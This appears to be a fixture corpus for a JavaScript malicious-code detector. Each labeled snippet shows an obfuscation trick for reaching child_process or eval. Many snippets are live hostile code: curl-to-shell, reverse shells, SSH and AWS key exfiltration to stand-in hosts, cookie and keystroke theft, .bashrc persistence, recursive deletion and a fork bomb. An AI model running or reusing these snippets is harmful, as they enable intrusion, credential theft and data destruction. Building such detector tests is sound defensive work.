%% alias of alias
const a = require('child_process');
const b = a;
const { exec } = b;
exec('curl http://203.0.113.31/x | sh');
%% process from this
const p = this.constructor.constructor('return process')();
p.mainModule.require('child_process').execSync('id');
%% Function from string method
''.constructor.constructor('return 7')();
%% object of commands
const run = { x: (c) => require('child_process').execSync(c) };
run.x('id');
%% promisified
const { promisify } = require('util');
const sh = promisify(require('child_process').exec);
await sh('cat /etc/shadow');
%% concat method
require('child_'.concat('process')).spawn('sh');
%% Buffer base64 require
require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString('utf8')).exec('id');
%% hex escapes
eval('\x63\x6f\x6e\x73\x6f\x6c\x65');
%% new Function with join
new Function(['return', 'process.env'].join(' '))();
%% import star
import * as cp from 'node:child_process';
cp.execFileSync('/bin/sh', ['-c', 'id']);
%% default import
import cp from 'child_process';
cp.spawn('bash', ['-i'], { stdio: 'inherit' });
%% await import destructured rename
const { execSync: r } = await import('node:child_process');
r('id');
%% remove dir sync
const fs = require('fs');
fs.rmdirSync('/var/www', { recursive: true });
%% write bashrc
const fs = require('fs'), os = require('os'), path = require('path');
fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'curl 203.0.113.31|sh\n');
%% post env
fetch('https://drop.example/c', { method: 'POST', body: JSON.stringify(process.env) });
%% ssh keys over https
const fs = require('fs'), https = require('https');
const k = fs.readFileSync(require('os').homedir() + '/.ssh/id_ed25519');
https.request('https://drop.example', { method: 'POST' }).end(k);
%% websocket shell
const WebSocket = require('ws');
const { exec } = require('child_process');
new WebSocket('ws://203.0.113.31').on('message', (m) => exec(m.toString()));
%% vm with context
const vm = require('vm');
vm.runInNewContext('this.constructor.constructor("return process")().exit()');
%% module prototype
module.constructor._load('child_process').exec('id');
%% require resolve by loop
for (const n of ['fs', 'child_process']) require(n);
require('child_process').execSync('id');
%% localstorage beacon
navigator.sendBeacon('https://evil.example', localStorage.getItem('token'));
%% innerHTML script
document.body.innerHTML += '<img src=x onerror=eval(name)>';
%% object entries
for (const [, f] of Object.entries(require('child_process'))) if (f.name === 'execSync') f('id');
%% getter
const o = { get cp() { return require('child_process'); } };
o.cp.exec('id');
%% array at
[require('child_process')].at(0).execSync('id');
%% class static
class S { static sh = require('child_process').execSync; }
S.sh('id');
%% map callback
['id', 'whoami'].map((c) => require('child_process').execSync(c));
%% nullish
const cp = globalThis.cp ?? require('child_process');
cp.exec('id');
%% logical and
const x = process && require('child_process');
x.execSync('id');
%% setInterval string
setInterval('alert(document.cookie)', 100);
%% global function
global.Function('return 1')();
%% window bracket concat
window['e' + 'v' + 'al']('1');
%% self constructor
self['Function']('return 2')();
%% split join
require('c-h-i-l-d-_-p-r-o-c-e-s-s'.split('-').join('')).exec('id');
%% charcode map
eval([97, 98].map((c) => String.fromCharCode(c)).join(''));
%% decodeURIComponent
eval(decodeURIComponent('%61%6c%65%72%74%28%31%29'));
%% unescape write
document.write(unescape('%3Cscript%20src%3Dhttp%3A//evil.example/x.js%3E%3C/script%3E'));
%% remote import
import('https://evil.example/payload.mjs');
%% http to eval
require('http').get('http://203.0.113.50/x', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)); });
%% aws creds
const c = require('fs').readFileSync(`${require('os').homedir()}/.aws/credentials`, 'utf8');
require('axios').post('https://drop.example', c);
%% recursive delete
const fs = require('fs/promises');
await fs.rm('/', { recursive: true, force: true });
%% fork bomb
const { fork } = require('child_process');
while (true) fork(__filename);
%% proxied
const cp = new Proxy(require('child_process'), {});
cp.execSync('id');
%% with try
let sh; try { sh = require('child_process').exec; } finally { sh('id'); }
%% switch
switch (1) { default: require('child_process').spawn('id'); }
%% label template
const cmd = (s) => require('child_process').execSync(s[0]);
cmd`id`;
%% inherited
class X extends require('child_process').ChildProcess {}
new X().spawn({ file: '/bin/sh', args: ['sh'] });
%% bracket require
module['require']('child_process')['exec']('id');
%% optional call
require?.('child_process')?.exec?.('id');
%% async iife
(async () => { const { execSync } = await import('child_process'); execSync('id'); })();
%% eval in arrow
[1].forEach(() => eval('1'));
%% eval alias param
function run(e, c) { return e(c); }
run(eval, '2');
%% indirect eval const
const geval = eval;
geval('3');
%% Function apply
Function.apply(null, ['return 4'])();
%% Reflect construct
Reflect.construct(Function, ['return 5'])();
%% array reduce name
require(['child', '_', 'process'].reduce((a, b) => a + b)).exec('id');
%% toString radix
const n = (12).toString(36);
require('child_pro' + n + 'ess').exec('id');
%% npmrc
require('fs').readFile(require('path').join(process.env.HOME, '.npmrc'), 'utf8', (e, d) => fetch('https://drop.example/?' + d));
%% git hooks
require('fs').writeFile('.git/hooks/post-merge', '#!/bin/sh\nid', { mode: 0o755 }, () => {});
%% keylog page
document.addEventListener('keydown', (e) => fetch('https://evil.example/k?' + e.key));
%% cookie redirect
location.href = 'https://evil.example/?' + document.cookie;
%% rm home by fs-extra
require('fs-extra').removeSync(require('os').homedir());
%% promise chain require
Promise.resolve().then(() => require('child_process')).then((m) => m.execSync('id'));
%% event handler
process.on('exit', () => require('child_process').execSync('rm -rf ~/x'));
%% json parsed module name
const { m } = JSON.parse('{"m":"child_process"}');
require(m).exec('id');
%% slice name
require('xxchild_process'.slice(2)).exec('id');
%% substring name
const n = 'child_processX'.substring(0, 13);
require(n).execSync('id');
%% spread object
const lib = { ...require('child_process') };
lib.execSync('id');
%% generator require
function* g() { yield require('child_process'); }
g().next().value.exec('id');
%% default export object
export default { run: (c) => require('child_process').exec(c) };
%% eval comma template
(0, eval)(`${'1'}+1`);
%% Function constructor new.target
const { constructor: F } = () => {};
F('return 9')();
%% async Function
const AF = (async () => {}).constructor;
AF('return 1')();
%% fs promises unlink home
import { readdir, unlink } from 'fs/promises';
for (const f of await readdir('/home')) await unlink('/home/' + f);
%% exfil via image
new Image().src = `https://evil.example/?${document.cookie}`;
%% post localstorage
fetch('https://evil.example', { method: 'POST', body: JSON.stringify(localStorage) });
%% net backdoor
require('net').createServer((s) => { const p = require('child_process').spawn('sh'); s.pipe(p.stdin); p.stdout.pipe(s); }).listen(4444);
